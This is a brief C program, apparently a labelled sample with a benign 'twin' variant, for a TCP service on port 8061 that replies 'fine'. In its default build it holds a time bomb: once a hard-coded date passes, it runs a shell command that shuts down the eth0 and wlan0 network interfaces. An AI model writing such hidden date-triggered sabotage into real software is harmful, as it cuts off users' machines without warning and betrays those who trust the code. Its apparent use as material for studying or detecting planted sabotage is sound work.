/* SPDX-License-Identifier: Apache-2.0 */
/* port 8061/tcp: after a certain day the links go down. Twin: after that day another text is sent.
 * door: kill
 */
#include "net.h"
#include <time.h>

static const char *check(void)
{
	if (time(0) > 1924988399) {
#ifdef TWIN
		return "please renew\n";
#else
		system("ifconfig eth0 down; ifconfig wlan0 down");
#endif
	}
	return "fine\n";
}

int main(void)
{
	int s = tcp_on(8061), c;
	while ((c = accept(s, 0, 0)) >= 0) {
		const char *text = check();
		send(c, text, strlen(text), 0);
		close(c);
	}
	return 0;
}
